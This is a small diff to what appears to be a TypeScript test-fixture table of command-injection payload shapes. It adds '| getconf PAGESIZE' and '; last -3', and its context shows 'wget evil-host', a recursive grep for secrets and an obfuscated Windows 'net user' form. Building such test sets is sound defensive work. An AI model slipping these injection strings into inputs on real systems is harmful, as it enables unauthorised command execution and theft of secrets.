@@ -78,6 +78,8 @@ const SHAPES: Record<string, string[]> = {
     "wget evil-host",
     "grep -ri secret .",
     "mkdir loot",
+    "| getconf PAGESIZE",
+    "; last -3",
   ],
   "svc-cmdi-019 and 021: cmd.exe and PowerShell forms": [
     "&^n^e^t user",
